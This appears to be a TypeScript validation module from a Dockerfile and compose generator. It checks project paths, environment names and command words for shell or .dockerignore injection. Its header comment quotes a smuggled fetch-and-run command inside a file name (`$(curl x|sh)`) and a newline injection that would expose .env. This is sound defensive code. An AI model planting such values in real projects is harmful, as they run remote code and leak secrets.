/**
 * What a value taken from the project may hold where a generated file puts it. The project may be
 * hostile: a schema path `prisma/$(curl x|sh).prisma` would run in a Dockerfile RUN, a migrations
 * folder named "migrations\n!.env" would add a line to .dockerignore, a variable named `A B` would
 * break compose's interpolation. Each check returns why a value can't be used (for a message that
 * names its source), or undefined when it can; quoting is shell.ts's formatCommand (shell words)
 * and JSON (Dockerfile exec form).
 */
import { UserError } from '../errors.js';

/** An environment variable name as shells, Dockerfile ENV and compose interpolation all accept it. */
export const ENV_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;

/** One name in a path: letters, digits and `_ @ + . -`, nothing a shell, a Dockerfile or .dockerignore reads specially. */
const SEGMENT = /^[\p{L}\p{N}_@+.-]+$/u;

/** A word of a command line that needs no quoting (formatCommand's unquoted set). */
const PLAIN_WORD = /^[\w@%+=:,./-]+$/;

/** The one expansion the plan writes itself: a folder's binaries put first on PATH for one command (`PATH=/app/packages/db/node_modules/.bin:$PATH prisma generate`). */
const PATH_PREFIX = /^PATH=\/[\w@+./-]+:\$PATH$/;

const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

/** Whether the text holds a line break or another control character. */
export function hasControlCharacter(text: string): boolean {
  return CONTROL.test(text);
}

function segmentsProblem(segments: readonly string[]): string | undefined {
  for (const segment of segments) {
    if (segment === '..') return 'leaves the project';
    if (segment === '' || segment === '.') return 'is not a normalised path';
    if (segment.startsWith('-')) return 'has a name starting with "-", which commands read as an option';
    if (!SEGMENT.test(segment)) {
      return 'has characters a Dockerfile, a shell script or .dockerignore would read as syntax (only letters, digits, "_", "@", "+", ".", "-" and "/" are written unquoted)';
    }
  }
  return undefined;
}

/**
 * A path inside the project as Dockerfile COPY and RUN lines, shell scripts and .dockerignore hold
 * it unquoted: relative, normalised, staying inside, made of plain names. "." is the project itself.
 */
export function projectPathProblem(value: string): string | undefined {
  if (value === '.') return undefined;
  if (value.startsWith('/')) return 'is an absolute path, outside the project';
  return segmentsProblem(value.split('/'));
}

/** An absolute path inside the image (/data, /opt/migrate), made of plain names. */
export function imagePathProblem(value: string): string | undefined {
  if (!value.startsWith('/')) return 'is not an absolute path in the image';
  return value === '/' ? undefined : segmentsProblem(value.slice(1).split('/'));
}

/** A .dockerignore line: a project path, where a name may also be a `*` pattern (`.pnp.*`). */
export function dockerignorePatternProblem(value: string): string | undefined {
  if (value.startsWith('/')) return 'is an absolute path, outside the project';
  const names = value.split('/').map((segment) => segment.replace(/\*/g, 'x'));
  return segmentsProblem(names);
}

/**
 * A command of a Dockerfile RUN line as the plan assembles it: plain words (nothing quoted,
 * nothing expanded), commands joined by `&&` (and line continuations). A word from the project
 * with `$(…)`, a backtick, `;` or a space can't pass.
 */
export function plainCommandProblem(command: string): string | undefined {
  const commands = command.replace(/ \\\n +/g, ' ').split(' && ');
  for (const part of commands) {
    const words = part.split(' ');
    const bad = words.find((word) => !PLAIN_WORD.test(word) && !PATH_PREFIX.test(word));
    if (bad !== undefined) return `has ${bad === '' ? 'an empty word' : `"${bad}"`}, which a shell would read as syntax`;
  }
  return undefined;
}

/**
 * `value` when it is a plain path inside the project; otherwise a UserError naming where it was
 * found (`where`, e.g. "/p/.yarnrc.yml: yarnPath"). For a path a command line will hold among
 * other words, where a later check of the whole line can't tell a space inside a name from one
 * between words.
 */
export function plainProjectPath(value: string, where: string): string {
  const problem = projectPathProblem(value);
  if (problem !== undefined) throw new UserError(`${where} "${value}" ${problem}: rename it to a plain path inside the project`);
  return value;
}
